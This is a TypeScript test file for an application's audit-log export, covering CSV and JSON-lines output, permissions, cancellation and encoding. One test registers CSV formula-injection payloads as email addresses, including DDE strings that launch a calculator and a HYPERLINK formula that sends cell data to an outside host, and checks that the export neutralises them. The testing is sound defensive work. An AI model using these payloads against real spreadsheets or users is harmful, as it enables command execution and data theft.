import { closeSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { AuditEntryView } from '../../src/shared/api/audit.ts'
import type { AuditFilter, ExportFormat } from '../../src/shared/api/audit-filter.ts'
import { FIRST_POLICY } from '../../src/shared/domain/policy.ts'
import { formatEntry } from '../../src/shared/messages/audit-entry-messages.ts'
import { appendEntries } from '../helpers/audit-log.ts'
import { windowChoosing } from '../helpers/chosen-file.ts'
import { paperlessDesktop } from '../helpers/fitting-inputs.ts'
import { startStaffedApp } from '../helpers/staffed-app.ts'
import { administrator, makeFolder, person, startTestApp } from '../helpers/test-app.ts'

/** Enough that an export can be met on its way. */
const LONG_LOG = 60_000

const LIST_ROWS = 200

/** For a thread that starts while much else goes on (milliseconds). */
const PATIENCE_MS = 20_000

const startExports = async () => {
  const app = await startStaffedApp()
  const { call, signIn, ada } = app
  for (const password of ['one wrong', 'two wrong']) await app.callRaw('auth:login', { ...person, password })
  await signIn()
  const target = makeFolder()
  const pathOf = (name: string): string => join(target, name)
  const finish = async (id: string, by = ada) => {
    await expect.poll(async () => (await call('jobs:read', { id }, by)).state, { timeout: PATIENCE_MS }).not.toBe('running')
    return call('jobs:read', { id }, by)
  }
  const begin = (format: ExportFormat, name: string, filter?: AuditFilter) =>
    call('audit:export', { format, ...(filter ? { filter } : {}) }, ada, windowChoosing(pathOf(name)))
  const run = async (format: ExportFormat, name: string, filter?: AuditFilter) => finish((await begin(format, name, filter)).id)
  return { ...app, target, pathOf, begin, run, finish, left: () => readdirSync(target) }
}

/** RFC 4180 behind one byte order mark, read as it is written: fields with their quotes taken off, rows ended by CR LF. */
const parseCsv = (file: string): string[][] => {
  expect(file.lastIndexOf('\ufeff')).toBe(0)
  const text = file.slice(1)
  const rows: string[][] = [[]]
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (field.lastIndex < text.length) {
    const at = field.lastIndex
    const [, quoted, bare = '', end] = field.exec(text) ?? []
    if (end === undefined) throw new Error(`no field at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`)
    rows.at(-1)?.push(quoted === undefined ? bare : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  expect(rows.pop()).toEqual([])
  return rows
}

/** The last line is the export's own, whatever the filter. */
const expectOwn = (action: string | undefined): void => expect(action).toBe('audit:export')

const withoutLink = (row: string[]): string[] => {
  expect(row.at(-1)).toMatch(/^[0-9a-f]{64}$/)
  return row.slice(0, -1)
}

const partyAsRecorded = (party: AuditEntryView['actor']) => party && { id: party.id, email: party.email }

/** What the entry itself records, without what later entries and the present users add. */
const asRecorded = ({ undo: _, reason: _reason, ended: _ended, actor, subject, ...entry }: AuditEntryView) => ({
  ...entry,
  actor: partyAsRecorded(actor),
  subject: partyAsRecorded(subject),
})

const toFields = ({ id, at, actor, subject, action, transport, outcome, details }: AuditEntryView): string[] =>
  [
    String(id),
    new Date(at).toISOString(),
    ...[actor?.email, actor?.id, subject?.email, subject?.id],
    ...[action, transport, outcome, formatEntry({ action, outcome, details }), details && JSON.stringify(details)],
  ].map((field) => field ?? '')

test('what a filter shows is exported, in full, the oldest first, as CSV and as JSON lines', async () => {
  const { call, auth, clock, run, pathOf, ada } = await startExports()
  const bob = await auth.findUserBy({ email: person.email })
  const filters: (AuditFilter | undefined)[] = [
    undefined,
    { subjectId: bob.id },
    { outcome: 'refused', transport: 'window' },
    { actions: ['auth:register', 'users:changeRole'] },
    { code: 'wrong-credentials', from: clock.now - 1, to: clock.now + 1 },
    { search: 'BOB@Example' },
    { search: '\u00e9' },
    { search: '%' },
  ]
  for (const [index, filter] of filters.entries()) {
    const { entries } = await call('audit:list', { limit: LIST_ROWS, ...(filter ? { filter } : {}) }, ada)
    entries.reverse()
    const csv = await run('csv', `${index}.csv`, filter)
    expect(csv).toMatchObject({
      kind: 'audit:export',
      state: 'done',
      result: { kind: 'exported', entries: entries.length, path: pathOf(`${index}.csv`) },
    })
    expect(csv.done).toBe(csv.total)
    const [head, ...rows] = parseCsv(readFileSync(pathOf(`${index}.csv`), 'utf8'))
    expectOwn(rows.pop()?.[6])
    expect(head).toEqual('id,time,actor,actor id,subject,subject id,action,transport,outcome,summary,details,link'.split(','))
    expect(rows.map(withoutLink), JSON.stringify(filter)).toEqual(entries.map(toFields))
    // Each is a thread of its own.
    if (index > 1) continue
    const again = (await call('audit:list', { limit: LIST_ROWS, ...(filter ? { filter } : {}) }, ada)).entries.reverse()
    await run('json-lines', `${index}.jsonl`, filter)
    const lines = readFileSync(pathOf(`${index}.jsonl`), 'utf8').split('\n')
    expect(lines.pop()).toBe('')
    const told = lines.map((line) => JSON.parse(line))
    expectOwn(told.pop().action)
    expect(told.map(({ link: _, ...entry }) => entry)).toEqual(again.map(asRecorded))
  }
})

test('an export is for its owner alone, in the place of what was there, and through no link', async () => {
  const { run, pathOf, left } = await startExports()
  writeFileSync(pathOf('open.csv'), 'former', { mode: 0o644 })
  await run('csv', 'open.csv')
  expect(statSync(pathOf('open.csv')).mode & 0o777).toBe(0o600)
  expect(readFileSync(pathOf('open.csv'), 'utf8')).not.toContain('former')
  const elsewhere = join(makeFolder(), 'precious.txt')
  writeFileSync(elsewhere, 'precious')
  symlinkSync(elsewhere, pathOf('link.csv'))
  await run('csv', 'link.csv')
  expect(readFileSync(elsewhere, 'utf8')).toBe('precious')
  expect(left().sort()).toEqual(['link.csv', 'open.csv'])
})

test('an export is in the log: by whom, what it was narrowed by, and how much it came to; not what was typed', async () => {
  const { call, run, ada, lastEntry } = await startExports()
  const { total } = await call('audit:count', { filter: { search: 'bob' } }, ada)
  await run('csv', 'log.csv', { search: 'bob', outcome: 'success' })
  await run('json-lines', 'log.jsonl')
  const entries = (await call('audit:list', { filter: { search: 'audit:export' } }, ada)).entries.reverse()
  const [first, firstEnd, second, secondEnd] = entries
  expect(entries).toHaveLength(4)
  for (const entry of entries) expect(entry).toMatchObject({ actor: { email: administrator.email }, outcome: 'success' })
  expect(first).toMatchObject({
    action: 'audit:export',
    details: { kind: 'export-started', format: 'csv', filteredBy: ['outcome', 'search'] },
    undo: 'not-possible',
  })
  expect(firstEnd).toMatchObject({
    action: 'audit:exported',
    details: { kind: 'export-finished', format: 'csv', entry: first?.id, state: 'done', entries: expect.any(Number) },
  })
  expect(total).toBeGreaterThan(0)
  expect(second?.details).toEqual({ kind: 'export-started', format: 'json-lines', filteredBy: [] })
  expect(secondEnd?.details).toEqual({
    kind: 'export-finished',
    format: 'json-lines',
    entry: second?.id,
    state: 'done',
    entries: (second?.id ?? 0) - 1,
  })
  expect((await lastEntry()).id).toBe(secondEnd?.id)
})

test('only administrators and auditors take the log out, and only from a window; no other user is asked where to', async () => {
  const { auth, refuse, signIn, olga, ada, pathOf, left } = await startExports()
  const auditor = { email: 'aude@example.org', password: 'eleven grey pelicans' }
  await auth.registerUser(auditor.email, auditor.password, { role: 'auditor' })
  const window = windowChoosing(pathOf('log.csv'))
  const input = { format: 'csv' }
  for (const session of [olga, await signIn()])
    expect(await refuse('audit:export', input, session, window)).toEqual({ code: 'not-permitted' })
  for (const session of [null, 'made-up'])
    expect(await refuse('audit:export', input, session, window)).toEqual({ code: 'not-signed-in' })
  for (const wrong of [{ format: 'xlsx' }, { format: 'csv', path: '/etc/passwd' }, { format: 'csv', filter: { sql: 'TRUE' } }])
    expect(await refuse('audit:export', wrong, ada, window)).toMatchObject({ code: 'invalid-input' })
  expect(window.asked).toBe(0)
  expect(await refuse('audit:export', input, ada, { ...window, transport: 'http' })).toEqual({ code: 'unknown-operation' })
  for (const transport of ['window', 'terminal'] as const) {
    const caller = { transport, source: transport, desktop: null }
    expect(await refuse('audit:export', input, ada, caller)).toEqual({ code: 'not-available' })
  }
  expect(left()).toEqual([])
})

test('a dialogue that is closed and a folder that takes no file leave no job, no entry and no file', async () => {
  const { call, refuse, ada, pathOf, left, lastEntry } = await startExports()
  const before = await lastEntry()
  const input = { format: 'csv' }
  expect(await refuse('audit:export', input, ada, windowChoosing(null))).toEqual({ code: 'cancelled' })
  expect(await refuse('audit:export', input, ada, windowChoosing(pathOf('no/such.csv')))).toEqual({
    code: 'file-not-written',
    fault: 'folder-not-writable',
  })
  expect(await call('jobs:list', undefined, ada)).toEqual({ jobs: [] })
  expect(await lastEntry()).toEqual(before)
  expect(left()).toEqual([])
})

test('what must hold holds when the dialogue is closed, however long it was open', async () => {
  const { call, callRaw, signIn, register, auth, ada, pathOf, left, lastEntry } = await startExports()
  const second = { email: 'grace@example.org', password: 'eleven grey pelicans' }
  await register(second)
  const meanwhile = [
    (session: string) => auth.destroySession(session),
    () => call('users:changeRole', { email: second.email, role: 'user' }, ada),
    () => call('users:disable', { email: second.email }, ada),
  ]
  for (const change of meanwhile) {
    await call('users:changeRole', { email: second.email, role: 'auditor' }, ada)
    const session = await signIn(second)
    const caller = windowChoosing(pathOf('log.csv'), () => change(session))
    expect(await callRaw('audit:export', { format: 'csv' }, session, caller)).toEqual({
      ok: false,
      error: { code: 'not-signed-in' },
    })
    expect((await lastEntry()).action).not.toBe('audit:export')
  }
  expect(left()).toEqual([])
})

test('nothing that a user typed is a formula in a spreadsheet, whatever it takes for the end of a cell', async () => {
  const folder = makeFolder()
  // Where the original exercise is kept to, an address is any text at all.
  const { call, signIn } = await startTestApp({ folder, policy: { ...FIRST_POLICY, compat: true } })
  const attacks = [
    ...['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\t=', '\r=', '\n=', '\0='].map(
      (start, index) => `${start}cmd|'/C calc'!A${index}`,
    ),
    '"=1+1',
    'a;=1+1',
    'a";"=1+1',
    'a\r\n=1+1',
    'a\r\n"@SUM(1)',
    "a\t  '+1",
    '=HYPERLINK("http://example.org?"&A1,"look")',
  ]
  const mild = ['"quoted", with a comma', 'two\r\nlines', 'O=C=O', 'a-b+c@example.org']
  for (const email of [...attacks, ...mild]) await call('auth:register', { email, password: 'a quiet harbour at noon' })
  const by = await signIn(administrator)
  const path = join(makeFolder(), 'log.csv')
  const { id } = await call('audit:export', { format: 'csv', filter: { actions: ['auth:register'] } }, by, windowChoosing(path))
  await expect.poll(async () => (await call('jobs:read', { id }, by)).state, { timeout: PATIENCE_MS }).toBe('done')
  const text = readFileSync(path, 'utf8')
  const rows = parseCsv(text)
  expect(rows).toHaveLength(1 + attacks.length + mild.length + 1)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n\0]/)
  // As a program cuts it that knows no quotes, or another separator.
  for (const piece of text.split(/[;\t\r\n\0]|,(?=")/)) expect(piece).not.toMatch(/^["\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
  const subjects = rows.map((row) => row[4] ?? '')
  // What is no formula stays as it is.
  for (const email of mild) expect(subjects).toContain(email)
})

test.each(['José Núñez', 'Łukasz Zoë', '山田太郎', 'דוד', 'Ÿvonne Ğül', '👩‍🚀', 'Åsa; Öberg'])(
  'a CSV of the log begins with one byte order mark, and JSON lines with none, and both are UTF-8: %j',
  async (name) => {
    const { call, run, pathOf, ada } = await startExports()
    await call('users:update', { email: person.email, name }, ada)
    const read = async (format: ExportFormat, filter?: AuditFilter): Promise<Buffer> => {
      await run(format, 'log', filter)
      return readFileSync(pathOf('log'))
    }
    const csv = await read('csv')
    expect([...csv.subarray(0, 5)]).toEqual([0xef, 0xbb, 0xbf, ...Buffer.from('id')])
    expect(new TextDecoder('utf-8', { fatal: true }).decode(csv)).toContain(name)
    // Also where nothing but the export's own entry is found.
    expect(parseCsv((await read('csv', { search: 'no entry has this' })).toString())).toHaveLength(2)
    const lines = await read('json-lines')
    expect(lines.toString().includes('\ufeff')).toBe(false)
    expect(lines.toString().startsWith('{')).toBe(true)
  },
)

/** As if years had gone by. */
const startLong = async () => {
  const exports = await startExports()
  appendEntries(exports.folder, LONG_LOG)
  return exports
}

test('an export that is cancelled leaves nothing, and what was there stays; the log says so', async () => {
  const { call, begin, finish, pathOf, left, ada, lastEntry } = await startLong()
  writeFileSync(pathOf('log.csv'), 'former')
  const { id } = await begin('csv', 'log.csv')
  expect(left()).toHaveLength(2)
  await expect
    .poll(async () => (await call('jobs:read', { id }, ada)).done, { interval: 2, timeout: PATIENCE_MS })
    .toBeGreaterThan(0)
  await call('jobs:cancel', { id }, ada)
  expect(await finish(id)).toMatchObject({ state: 'cancelled', result: null })
  expect(left()).toEqual(['log.csv'])
  expect(readFileSync(pathOf('log.csv'), 'utf8')).toBe('former')
  expect((await lastEntry()).details).toMatchObject({ kind: 'export-finished', format: 'csv', state: 'cancelled' })
})

test('an export that fails leaves nothing, whether the disk is full or the name cannot be had', async () => {
  const { call, run, finish, pathOf, left, ada, lastEntry, unexpected } = await startLong()
  mkdirSync(pathOf('folder.csv'))
  writeFileSync(join(pathOf('folder.csv'), 'former'), '')
  expect(await run('csv', 'folder.csv')).toMatchObject({ state: 'failed', result: null })
  expect(left()).toEqual(['folder.csv'])
  expect((await lastEntry()).details).toMatchObject({ kind: 'export-finished', state: 'failed' })
  // Linux's disk that is always full.
  const descriptor = openSync('/dev/full', 'w')
  const dropped: string[] = []
  const file = {
    descriptor,
    commit: async () => void dropped.push('kept'),
    discard: async () => {
      dropped.push('dropped')
      closeSync(descriptor)
    },
  }
  const openExport = async () => ({ kind: 'open', path: pathOf('full.csv'), file }) as const
  const caller = { transport: 'window', source: 'window:1', desktop: { ...paperlessDesktop, openExport } } as const
  const { id } = await call('audit:export', { format: 'csv' }, ada, caller)
  expect(await finish(id)).toMatchObject({ state: 'failed', fault: 'disk-full', result: null })
  expect(dropped).toEqual(['dropped'])
  // The developer is told why, twice.
  expect(unexpected.map(String).join()).toMatch(/EISDIR|ENOTEMPTY|EEXIST/)
  expect(unexpected.map(String).join()).toContain('ENOSPC')
  // The next one is not kept waiting for it.
  expect(await run('csv', 'log.csv')).toMatchObject({ state: 'done' })
})

test('a user who loses the role while the export runs gets no file', async () => {
  const { auth, call, signIn, ada, pathOf, left, lastEntry } = await startLong()
  const second = { email: 'grace@example.org', password: 'eleven grey pelicans' }
  await auth.registerUser(second.email, second.password, { role: 'auditor' })
  const session = await signIn(second)
  await call('audit:export', { format: 'csv' }, session, windowChoosing(pathOf('log.csv')))
  await call('users:changeRole', { email: second.email, role: 'operator' }, ada)
  const ended = async () => (await lastEntry()).details
  await expect.poll(ended, { timeout: PATIENCE_MS }).toMatchObject({ kind: 'export-finished', format: 'csv', state: 'failed' })
  expect(left()).toEqual([])
})

test('of one user’s exports one runs at a time, which goes on without the session and is no other user’s', async () => {
  const { call, callRaw, refuse, begin, finish, signIn, olga, ada, pathOf, left } = await startLong()
  const { id } = await begin('csv', 'log.csv')
  const window = windowChoosing(pathOf('second.csv'))
  const again = await signIn(administrator)
  expect(await callRaw('audit:export', { format: 'csv' }, again, window)).toEqual({ ok: false, error: { code: 'busy' } })
  expect(window.asked).toBe(0)
  for (const operation of ['jobs:read', 'jobs:cancel'])
    expect(await refuse(operation, { id }, olga)).toEqual({ code: 'no-such-job' })
  await call('auth:logout', undefined, ada)
  expect(await finish(id, again)).toMatchObject({ state: 'done' })
  expect(left()).toEqual(['log.csv'])
})

test('closing ends an export and leaves nothing of it', async () => {
  const { begin, close, left, unexpected } = await startLong()
  await begin('json-lines', 'log.jsonl')
  await close()
  expect(left()).toEqual([])
  expect(unexpected).toEqual([])
})
